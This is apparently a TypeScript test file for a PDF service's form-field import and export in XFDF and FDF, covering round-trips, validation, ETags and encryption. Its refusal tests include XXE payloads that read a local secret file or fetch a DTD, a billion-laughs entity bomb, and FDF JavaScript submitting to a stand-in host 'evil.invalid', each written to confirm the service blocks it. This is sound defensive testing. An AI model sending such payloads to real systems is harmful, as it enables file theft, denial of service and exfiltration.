import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, test } from 'node:test';
import { makeFormPdf } from '../helpers/form-pdf.js';
import { call, putPdf, sha256, storedBytes, expectUnchanged, type Reply } from '../helpers/http.js';
import { pdftotext, qpdfCheck, renderPage, withTempFile } from '../helpers/pdf.js';
import { appearanceOf, qpdfFields } from '../helpers/qpdf-json.js';
import { serverForSuite } from '../helpers/server.js';

const server = serverForSuite();

const XFDF = 'application/vnd.adobe.xfdf';
const FDF = 'application/vnd.fdf';
const form = makeFormPdf();

const exportFields = (doc: string, query = '', headers: Record<string, string> = {}) => call(server, 'GET', `/documents/${doc}/fields/content${query}`, { headers });
const importFields = (doc: string, body: string | Buffer, type = XFDF, headers: Record<string, string> = {}, url = 'fields/content') =>
  call(server, 'POST', `/documents/${doc}/${url}`, { body: Buffer.from(body), headers: { 'content-type': type, ...headers } });

/** Field values as qpdf (an independent PDF library) reads them: names without "/", text strings as text. */
function qpdfFieldValues(bytes: Buffer, password?: string): Record<string, unknown> {
  return Object.fromEntries(qpdfFields(bytes, password).map((f) => [f.fullname, f.value]));
}


const xfdf = (fields: string) => `<?xml version="1.0" encoding="UTF-8"?>\n<xfdf xmlns="http://ns.adobe.com/xfdf/" xml:space="preserve">\n<fields>\n${fields}\n</fields>\n</xfdf>\n`;

describe('export', () => {
  test('XFDF as Acrobat writes it: nested names, values, <f href> and <ids>; push buttons and signatures left out', async () => {
    await putPdf(server, 'fields/export.pdf', form);
    const reply = await exportFields('fields/export.pdf');
    assert.equal(reply.status, 200, reply.text);
    assert.match(reply.headers.get('content-type') ?? '', /^application\/vnd\.adobe\.xfdf/);
    assert.match(reply.text, /^<\?xml version="1.0" encoding="UTF-8"\?>\n<xfdf xmlns="http:\/\/ns\.adobe\.com\/xfdf\/" xml:space="preserve">\n<fields>\n/);
    assert.match(reply.text, /<field name="comment">\n<value>Hello<\/value>\n<\/field>/);
    assert.match(reply.text, /<field name="color">\n<value>Green<\/value>/);
    assert.match(reply.text, /<field name="toppings">\n<value>cheese<\/value>\n<value>olives<\/value>/);
    assert.match(reply.text, /<field name="person">\n<field name="name">\n<value>Bob<\/value>\n<\/field>\n<\/field>/);
    assert.match(reply.text, /<\/fields>\n<f href="export\.pdf"\/>\n<ids original="0123456789ABCDEF0123456789ABCDEF" modified="0123456789ABCDEF0123456789ABCDEF"\/>\n<\/xfdf>/);
    assert.doesNotMatch(reply.text, /name="(submit|sig|agree|town|email)"/, 'no push button, no signature, no empty field');
    const download = await exportFields('fields/export.pdf', '?attachment=true');
    assert.equal(download.headers.get('content-disposition'), `attachment; filename="export.xfdf"; filename*=UTF-8''export.xfdf`);
    assert.equal(download.text, reply.text);
    assert.equal((await exportFields('fields/export.pdf', '', { accept: 'application/json' })).status, 406);
  });

  test('exportEmptyFields=true adds the fields without a value: an empty <value/>, "Off" for buttons', async () => {
    await putPdf(server, 'fields/empty.pdf', form);
    const without = (await exportFields('fields/empty.pdf', '?exportEmptyFields=false')).text;
    const withEmpty = (await exportFields('fields/empty.pdf', '?exportEmptyFields=true')).text;
    const names = (text: string) => [...text.matchAll(/<field name="([^"]+)">/g)].map((m) => m[1]);
    assert.deepEqual(names(without), ['comment', 'color', 'country', 'toppings', 'id', 'person', 'name', 'ref']);
    assert.deepEqual(names(withEmpty), ['comment', 'agree', 'color', 'country', 'town', 'toppings', 'id', 'person', 'name', 'email', 'ref']);
    assert.match(withEmpty, /<field name="agree">\n<value>Off<\/value>/);
    assert.match(withEmpty, /<field name="town">\n<value\/>/);
    assert.match(withEmpty, /<field name="email">\n<value\/>/);
  });

  test('FDF by Accept: a %FDF-1.2 file with nested /Fields, /F and /ID', async () => {
    await putPdf(server, 'fields/fdf.pdf', form);
    const reply = await exportFields('fields/fdf.pdf', '?exportEmptyFields=true&attachment=true', { accept: FDF });
    assert.equal(reply.status, 200, reply.text);
    assert.equal(reply.headers.get('content-type'), FDF);
    assert.match(reply.headers.get('content-disposition') ?? '', /filename="fdf\.fdf"/);
    const text = reply.bytes.toString('latin1');
    assert.match(text, /^%FDF-1\.2\n/);
    assert.match(text, /1 0 obj\n<< \/FDF << \/Fields \[/);
    assert.match(text, /<< \/T \(agree\) \/V \/Off >>/);
    assert.match(text, /<< \/T \(toppings\) \/V \[\(cheese\) \(olives\)\] >>/);
    assert.match(text, /<< \/T \(person\) \/Kids \[<< \/T \(name\) \/V \(Bob\) >> << \/T \(email\) \/V \(\) >>\] >>/);
    assert.match(text, /\/F \(fdf\.pdf\) \/ID \[<0123456789ABCDEF0123456789ABCDEF> <0123456789ABCDEF0123456789ABCDEF>\]/);
    assert.match(text, /trailer\n<< \/Root 1 0 R >>\n%%EOF\n$/);
  });
});

describe('import', () => {
  test('XFDF: every kind of field set, checked with qpdf; appearances regenerated (pdftotext, pixels); export gives the values back', async () => {
    await putPdf(server, 'fields/import.pdf', form);
    const body = xfdf([
      '<field name="comment"><value>World (new)</value></field>',
      '<field name="agree"><value>Yes</value></field>',
      '<field name="color"><value>Blue</value></field>',
      '<field name="country"><value>us</value></field>',
      '<field name="town"><value>Hamburg</value></field>',
      '<field name="toppings"><value>ham</value><value>olives</value></field>',
      '<field name="person"><field name="name"><value>Carol</value></field></field>',
      '<field name="person.email"><value>carol@example.org</value></field>',
      '<field name="ref"><value>R-2</value></field>',
      '<field name="nobody"><value>x</value></field>',
    ].join('\n'));
    const reply = await importFields('fields/import.pdf', body);
    assert.equal(reply.status, 200, reply.text);
    assert.deepEqual(reply.json(), {
      set: ['comment', 'agree', 'color', 'country', 'town', 'toppings', 'person.name', 'person.email', 'ref'],
      unknown: ['nobody'],
      warnings: [],
    });
    const bytes = await storedBytes(server, 'fields/import.pdf');
    assert.equal(reply.headers.get('etag'), (await call(server, 'HEAD', '/documents/fields/import.pdf')).headers.get('etag'));
    assert.ok(qpdfCheck(bytes).ok, qpdfCheck(bytes).output);
    const values = qpdfFieldValues(bytes);
    assert.equal(values['comment'], 'World (new)');
    assert.equal(values['agree'], 'Yes');
    assert.equal(values['color'], 'Blue');
    assert.equal(values['country'], 'us');
    assert.equal(values['town'], 'Hamburg');
    assert.deepEqual(values['toppings'], ['ham', 'olives']);
    assert.equal(values['person.name'], 'Carol');
    assert.equal(values['person.email'], 'carol@example.org');
    assert.equal(values['ref'], 'R-2');
    assert.equal(values['id'], '42', 'untouched');

    // poppler draws the appearance streams (no NeedAppearances here): the new values show.
    const text = pdftotext(bytes);
    for (const shown of ['World (new)', 'Carol', 'carol@example.org', 'Hamburg', 'United States']) assert.ok(text.includes(shown), `${shown} is shown:\n${text}`);
    assert.doesNotMatch(text, /Hello|R-1/);
    assert.equal(text.match(/R-2/g)?.length, 2, 'both widgets of "ref" show the value');
    // The selected list lines are highlighted (ham is the second line of the list box at 72,520-272,580), the first is not.
    const page = renderPage(bytes);
    const [r, g, b] = page.rgb(200, 238);
    assert.ok(b > 180 && r < 200 && r < b, `the "ham" line is highlighted: ${[r, g, b]}`);
    assert.deepEqual(page.rgb(200, 223), [255, 255, 255], 'the "cheese" line is not');
    // The radio widgets: Blue on, the others off.
    const json = withTempFile(bytes, (file) => execFileSync('qpdf', ['--json', '--json-key=acroform', file], { encoding: 'utf8' }));
    const states = (JSON.parse(json) as { acroform: { fields: { fullname: string; annotation: { appearancestate: string } }[] } }).acroform.fields
      .filter((f) => f.fullname === 'color')
      .map((f) => f.annotation.appearancestate);
    assert.deepEqual(states, ['/Off', '/Off', '/Blue']);

    const exported = (await exportFields('fields/import.pdf')).text;
    assert.match(exported, /<field name="toppings">\n<value>ham<\/value>\n<value>olives<\/value>/);
    assert.match(exported, /<field name="person">\n<field name="name">\n<value>Carol<\/value>\n<\/field>\n<field name="email">\n<value>carol@example.org<\/value>/);
    assert.doesNotMatch(exported, /modified="0123456789ABCDEF0123456789ABCDEF"/, 'the saved document has a new modified id');
  });

  test('XFDF exported by us imports back into a fresh copy: the same values; POST .../fields is the same operation', async () => {
    await putPdf(server, 'fields/source.pdf', form);
    await importFields('fields/source.pdf', xfdf('<field name="comment"><value>Grüße &amp; &lt;tags&gt;\nline two</value></field><field name="agree"><value>Yes</value></field>'));
    const exported = (await exportFields('fields/source.pdf', '?exportEmptyFields=true')).text;
    await putPdf(server, 'fields/target.pdf', form);
    const reply = await importFields('fields/target.pdf', exported, XFDF, {}, 'fields');
    assert.equal(reply.status, 200, reply.text);
    assert.deepEqual(reply.json().unknown, []);
    assert.deepEqual(qpdfFieldValues(await storedBytes(server, 'fields/target.pdf')), qpdfFieldValues(await storedBytes(server, 'fields/source.pdf')));
    assert.equal(qpdfFieldValues(await storedBytes(server, 'fields/target.pdf'))['comment'], 'Grüße & <tags>\nline two');
  });

  test('control characters and CR in values: FDF carries them exactly; XFDF carries CR, and control characters as control pictures with a warning', async () => {
    await putPdf(server, 'fields/controls.pdf', form);
    const fdf = '%FDF-1.2\n1 0 obj << /FDF << /Fields [<< /T (comment) /V (a\\001b\\rc) >> << /T (person) /Kids [<< /T (name) /V <FEFF0042006F00020062> >>] >>] >> >> endobj trailer << /Root 1 0 R >>\n%%EOF';
    assert.equal((await importFields('fields/controls.pdf', fdf, FDF)).status, 200);
    const source = qpdfFieldValues(await storedBytes(server, 'fields/controls.pdf'));
    assert.equal(source['comment'], 'a\x01b\rc');
    assert.equal(source['person.name'], 'Bo\x02b');

    // FDF: exact, both ways.
    const asFdf = await exportFields('fields/controls.pdf', '', { accept: FDF });
    assert.equal(asFdf.headers.get('x-service-warning'), null);
    await putPdf(server, 'fields/controls-fdf.pdf', form);
    assert.equal((await importFields('fields/controls-fdf.pdf', asFdf.bytes, FDF)).status, 200);
    const viaFdf = qpdfFieldValues(await storedBytes(server, 'fields/controls-fdf.pdf'));
    assert.equal(viaFdf['comment'], 'a\x01b\rc');
    assert.equal(viaFdf['person.name'], 'Bo\x02b');

    // XFDF: well-formed XML 1.0 (an independent parser reads it), CR kept, the control characters visible and reported.
    const asXfdf = await exportFields('fields/controls.pdf');
    assert.equal(asXfdf.status, 200);
    const warning = asXfdf.headers.get('x-service-warning') ?? '';
    assert.match(warning, /"comment"/);
    assert.match(warning, /"person\.name"/);
    assert.match(warning, /FDF/);
    const script = 'import json,sys,xml.dom.minidom as m\nd=m.parseString(sys.stdin.buffer.read())\nprint(json.dumps(["".join(c.data for c in v.childNodes) for v in d.getElementsByTagName("value")]))';
    const values = JSON.parse(execFileSync('python3', ['-c', script], { input: asXfdf.text, encoding: 'utf8' })) as string[];
    assert.ok(values.includes('a\u2401b\rc'), JSON.stringify(values));
    assert.ok(values.includes('Bo\u2402b'), JSON.stringify(values));
    await putPdf(server, 'fields/controls-xfdf.pdf', form);
    assert.equal((await importFields('fields/controls-xfdf.pdf', asXfdf.text)).status, 200);
    const viaXfdf = qpdfFieldValues(await storedBytes(server, 'fields/controls-xfdf.pdf'));
    assert.equal(viaXfdf['comment'], 'a\u2401b\rc');
    const listed = (await call(server, 'GET', '/documents/fields/controls-xfdf.pdf/fields')).json().fields as { name: string; value: unknown }[];
    assert.equal(listed.find((f) => f.name === 'comment')?.value, 'a\u2401b\rc');
  });

  test('FDF: nested /Kids and flat dotted names, a checkbox state as a name, a multi-select list as an array', async () => {
    await putPdf(server, 'fields/fdf-import.pdf', form);
    const fdf = [
      '%FDF-1.2',
      '%\xe2\xe3\xcf\xd3',
      '1 0 obj',
      '<< /FDF << /Fields [ << /T (person) /Kids [ << /T (name) /V (Dora) >> ] >> << /T (person.email) /V (dora@example.org) >>',
      '  << /T (agree) /V /Yes >> << /T (toppings) /V [(cheese) (ham)] >> 2 0 R ] /F (form.pdf) >> >>',
      'endobj',
      '2 0 obj',
      '<< /T (comment) /V <FEFF00C400DF> >>',
      'endobj',
      'trailer',
      '<< /Root 1 0 R >>',
      '%%EOF',
    ].join('\r\n');
    const reply = await importFields('fields/fdf-import.pdf', Buffer.from(fdf, 'latin1'), FDF);
    assert.equal(reply.status, 200, reply.text);
    assert.deepEqual(reply.json().set, ['person.name', 'person.email', 'agree', 'toppings', 'comment']);
    const values = qpdfFieldValues(await storedBytes(server, 'fields/fdf-import.pdf'));
    assert.equal(values['person.name'], 'Dora');
    assert.equal(values['person.email'], 'dora@example.org');
    assert.equal(values['agree'], 'Yes');
    assert.deepEqual(values['toppings'], ['cheese', 'ham']);
    assert.equal(values['comment'], 'Äß');
    // application/fdf, as older tools send it, is read as FDF too.
    const legacy = await importFields('fields/fdf-import.pdf', '%FDF-1.2\n1 0 obj << /FDF << /Fields [<< /T (town) /V (Paris) >>] >> >> endobj trailer << /Root 1 0 R >>\n%%EOF', 'application/fdf');
    assert.equal(legacy.status, 200, legacy.text);
  });

  test('with NeedAppearances set, the appearance streams are still written (viewers that ignore the flag show the values)', async () => {
    await putPdf(server, 'fields/need.pdf', makeFormPdf({ needAppearances: true }));
    const reply = await importFields('fields/need.pdf', xfdf('<field name="person"><field name="email"><value>eve@example.org</value></field></field>'));
    assert.equal(reply.status, 200, reply.text);
    const bytes = await storedBytes(server, 'fields/need.pdf');
    assert.match(appearanceOf(bytes, 'person.email'), /\(eve@example\.org\) Tj/);
  });

  test('an answer as XML: <FieldsImport>', async () => {
    await putPdf(server, 'fields/xml.pdf', form);
    const reply = await importFields('fields/xml.pdf', xfdf('<field name="town"><value>Paris</value></field><field name="x"><value>1</value></field>'), XFDF, { accept: 'application/xml' });
    assert.equal(reply.status, 200, reply.text);
    assert.match(reply.text, /<FieldsImport>\s*<set>\s*<name>town<\/name>\s*<\/set>\s*<unknown>\s*<name>x<\/name>\s*<\/unknown>/);
  });
});

describe('refusals change nothing', () => {
  const unchanged = async (doc: string, attempt: () => Promise<Reply>, status: number, code: string) => (await expectUnchanged(server, doc, attempt, status, code)).json();

  test('a checkbox state the widget does not have: 400 listing the allowed states; nothing else is set either', async () => {
    await putPdf(server, 'fields/bad.pdf', form);
    const problem = await unchanged('fields/bad.pdf', () => importFields('fields/bad.pdf', xfdf('<field name="comment"><value>changed</value></field><field name="agree"><value>Maybe</value></field>')), 400, 'VALIDATION_FAILED');
    assert.deepEqual(problem.allowed, ['Yes', 'Off']);
    assert.equal(problem.field, 'agree');
    assert.match(problem.detail, /Maybe.*allowed: Yes, Off/);
    const radio = await unchanged('fields/bad.pdf', () => importFields('fields/bad.pdf', xfdf('<field name="color"><value>Purple</value></field>')), 400, 'VALIDATION_FAILED');
    assert.deepEqual(radio.allowed, ['Red', 'Green', 'Blue', 'Off']);
    const combo = await unchanged('fields/bad.pdf', () => importFields('fields/bad.pdf', xfdf('<field name="country"><value>United States</value></field>')), 400, 'VALIDATION_FAILED');
    assert.deepEqual(combo.allowed, ['DE', 'FR', 'us'], 'export values, not display texts');
    await unchanged('fields/bad.pdf', () => importFields('fields/bad.pdf', xfdf('<field name="country"><value>DE</value><value>FR</value></field>')), 400, 'VALIDATION_FAILED');
    await unchanged('fields/bad.pdf', () => importFields('fields/bad.pdf', xfdf('<field name="submit"><value>x</value></field>')), 400, 'VALIDATION_FAILED');
  });

  test('a read-only field: 409 FIELD_READ_ONLY, unless it already holds the value (an export of the form imports back)', async () => {
    await putPdf(server, 'fields/ro.pdf', form);
    const problem = await unchanged('fields/ro.pdf', () => importFields('fields/ro.pdf', xfdf('<field name="id"><value>43</value></field>')), 409, 'FIELD_READ_ONLY');
    assert.equal(problem.field, 'id');
    const before = sha256(await storedBytes(server, 'fields/ro.pdf'));
    const same = await importFields('fields/ro.pdf', xfdf('<field name="id"><value>42</value></field>'));
    assert.equal(same.status, 200, same.text);
    assert.deepEqual(same.json().set, ['id']);
    assert.equal(sha256(await storedBytes(server, 'fields/ro.pdf')), before, 'nothing changed, nothing written');
  });

  test('only unknown names: 200 reporting them, the document is not rewritten', async () => {
    await putPdf(server, 'fields/unknown.pdf', form);
    const before = sha256(await storedBytes(server, 'fields/unknown.pdf'));
    const reply = await importFields('fields/unknown.pdf', xfdf('<field name="a"><field name="b"><value>x</value></field></field><field name="person"><value>x</value></field>'));
    assert.equal(reply.status, 200, reply.text);
    assert.deepEqual(reply.json(), { set: [], unknown: ['a.b', 'person'], warnings: [] });
    assert.equal(sha256(await storedBytes(server, 'fields/unknown.pdf')), before);
  });

  test('XXE and billion-laughs bodies: 400 MALFORMED_XFDF; no file is read, no URL fetched', async () => {
    await putPdf(server, 'fields/xxe.pdf', form);
    const dir = mkdtempSync(path.join(tmpdir(), 'pdfservice-xxe-'));
    const secret = path.join(dir, 'secret.txt');
    writeFileSync(secret, 'TOP-SECRET-MARKER');
    let fetched = 0;
    const listener: Server = createServer((_req, res) => {
      fetched++;
      res.end('FETCHED-MARKER');
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const port = (listener.address() as { port: number }).port;
    try {
      const bodies = [
        `<?xml version="1.0"?><!DOCTYPE xfdf [<!ENTITY xxe SYSTEM "file://${secret}">]><xfdf xmlns="http://ns.adobe.com/xfdf/"><fields><field name="comment"><value>&xxe;</value></field></fields></xfdf>`,
        `<?xml version="1.0"?><!DOCTYPE xfdf SYSTEM "http://127.0.0.1:${port}/dtd"><xfdf xmlns="http://ns.adobe.com/xfdf/"><fields><field name="comment"><value>x</value></field></fields></xfdf>`,
        `<?xml version="1.0"?><!DOCTYPE xfdf [<!ENTITY % p SYSTEM "http://127.0.0.1:${port}/p"> %p;]><xfdf/>`,
        `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]><xfdf><fields><field name="comment"><value>&lol9;</value></field></fields></xfdf>`,
      ];
      for (const body of bodies) {
        const problem = await unchanged('fields/xxe.pdf', () => importFields('fields/xxe.pdf', body), 400, 'MALFORMED_XFDF');
        assert.doesNotMatch(JSON.stringify(problem), /TOP-SECRET|FETCHED|lollol/);
      }
      assert.equal(fetched, 0, 'no URL was fetched');
      assert.doesNotMatch(pdftotext(await storedBytes(server, 'fields/xxe.pdf')), /TOP-SECRET/);
    } finally {
      listener.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });

  test('not XFDF, or not well-formed: 400 MALFORMED_XFDF; an empty body too', async () => {
    await putPdf(server, 'fields/malformed.pdf', form);
    for (const body of ['<xfdf><fields><field name="comment"><value>x</value></fields></xfdf>', '<fields/>', 'plain text', '<xfdf><fields><field><value>x</value></field></fields></xfdf>']) {
      await unchanged('fields/malformed.pdf', () => importFields('fields/malformed.pdf', body), 400, 'MALFORMED_XFDF');
    }
    await unchanged('fields/malformed.pdf', () => importFields('fields/malformed.pdf', ''), 400, 'MALFORMED_XFDF');
  });

  test('XFDF nested more than 100 elements deep: 400 MALFORMED_XFDF, not a processing failure (found by the robustness suite)', async () => {
    await putPdf(server, 'fields/deep.pdf', form);
    for (const depth of [101, 5000]) {
      const body = `<?xml version="1.0" encoding="UTF-8"?><xfdf xmlns="http://ns.adobe.com/xfdf/"><fields><field name="comment">${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}<value>x</value></field></fields></xfdf>`;
      const problem = await unchanged('fields/deep.pdf', () => importFields('fields/deep.pdf', body), 400, 'MALFORMED_XFDF');
      assert.match(problem.detail, /nested deeper than 100/);
    }
  });

  test('malformed FDF: 400 MALFORMED_FDF', async () => {
    await putPdf(server, 'fields/badfdf.pdf', form);
    const bodies = [
      'no header at all',
      '%FDF-1.2\n1 0 obj << /FDF << /Fields [ << /T (comment) /V (x) >> ] >> endobj\ntrailer << /Root 1 0 R >>', // unclosed dictionary
      '%FDF-1.2\n1 0 obj << /Other 1 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF', // no /FDF
      `%FDF-1.2\n1 0 obj << /FDF << /Fields ${'['.repeat(100)}${']'.repeat(100)} >> >> endobj trailer << /Root 1 0 R >>`, // nesting
      '%FDF-1.2\n1 0 obj << /FDF << >> >> endobj\n2 0 obj << /Length 5 >> stream\nabc', // stream without end
    ];
    for (const body of bodies) await unchanged('fields/badfdf.pdf', () => importFields('fields/badfdf.pdf', body, FDF), 400, 'MALFORMED_FDF');
  });

  test('an FDF with JavaScript: the values are imported, the scripts dropped and reported', async () => {
    await putPdf(server, 'fields/js.pdf', form);
    const fdf = [
      '%FDF-1.2',
      '1 0 obj << /FDF << /Fields [ << /T (comment) /V (from fdf) /AA << /K 3 0 R >> /A 2 0 R >> ] /JavaScript << /Before (app.alert\\(1\\)) >> >> >> endobj',
      '2 0 obj << /S /JavaScript /JS (this.submitForm\\("http://evil.invalid"\\)) >> endobj',
      '3 0 obj << /S /JavaScript /JS (event.value = 1) >> endobj',
      'trailer << /Root 1 0 R >>',
      '%%EOF',
    ].join('\n');
    const reply = await importFields('fields/js.pdf', fdf, FDF);
    assert.equal(reply.status, 200, reply.text);
    const result = reply.json();
    assert.deepEqual(result.set, ['comment']);
    assert.ok(result.warnings.some((w: string) => /JavaScript/.test(w)), JSON.stringify(result.warnings));
    assert.ok(result.warnings.some((w: string) => /\/AA/.test(w)), JSON.stringify(result.warnings));
    const bytes = await storedBytes(server, 'fields/js.pdf');
    assert.equal(qpdfFieldValues(bytes)['comment'], 'from fdf');
    const dump = withTempFile(bytes, (file) => execFileSync('qpdf', ['--qdf', '--object-streams=disable', file, '-'], { maxBuffer: 1 << 26 })).toString('latin1');
    assert.doesNotMatch(dump, /JavaScript|app\.alert|submitForm/);
  });

  test('a stale If-Match: 412; another media type: 415', async () => {
    await putPdf(server, 'fields/etag.pdf', form);
    await unchanged('fields/etag.pdf', () => importFields('fields/etag.pdf', xfdf('<field name="town"><value>Paris</value></field>'), XFDF, { 'if-match': '"stale"' }), 412, 'PRECONDITION_FAILED');
    await unchanged('fields/etag.pdf', () => call(server, 'POST', '/documents/fields/etag.pdf/fields/content', { body: { town: 'Paris' } }), 415, 'UNSUPPORTED_MEDIA_TYPE');
    const etag = (await call(server, 'HEAD', '/documents/fields/etag.pdf')).headers.get('etag')!;
    assert.equal((await importFields('fields/etag.pdf', xfdf('<field name="town"><value>Paris</value></field>'), XFDF, { 'if-match': etag })).status, 200);
    assert.equal((await importFields('fields/missing.pdf', xfdf('<field name="town"><value>Paris</value></field>'))).status, 404);
  });

  test('an encrypted document opened with the user password that forbids form filling: 403; the owner password fills it', async () => {
    const locked = withTempFile(form, (input) => {
      const output = `${input}.enc.pdf`;
      execFileSync('qpdf', ['--encrypt', 'user-pw', 'owner-pw', '256', '--form=n', '--annotate=n', '--modify=none', '--', input, output]);
      return execFileSync('cat', [output]);
    });
    await putPdf(server, 'fields/locked.pdf', locked);
    const body = xfdf('<field name="town"><value>Paris</value></field>');
    const problem = await unchanged('fields/locked.pdf', () => importFields('fields/locked.pdf', body, XFDF, { 'x-service-documentpassword': 'user-pw' }), 403, 'DOCUMENT_PERMISSION_DENIED');
    assert.match(problem.detail, /fill in form fields/);
    await unchanged('fields/locked.pdf', () => importFields('fields/locked.pdf', body), 403, 'DOCUMENT_PASSWORD_REQUIRED');
    const exported = await exportFields('fields/locked.pdf', '', { 'x-service-documentpassword': 'user-pw' });
    assert.equal(exported.status, 200, 'reading the values is allowed');
    assert.match(exported.text, /<value>Hello<\/value>/);
    const owner = await importFields('fields/locked.pdf', body, XFDF, { 'x-service-documentpassword': 'owner-pw' });
    assert.equal(owner.status, 200, owner.text);
    const bytes = await storedBytes(server, 'fields/locked.pdf');
    assert.equal(qpdfFieldValues(bytes, 'owner-pw')['town'], 'Paris');
    assert.match(withTempFile(bytes, (f) => execFileSync('qpdf', ['--show-encryption', '--password=owner-pw', f], { encoding: 'utf8' })), /R = 6/, 'still encrypted');
  });
});
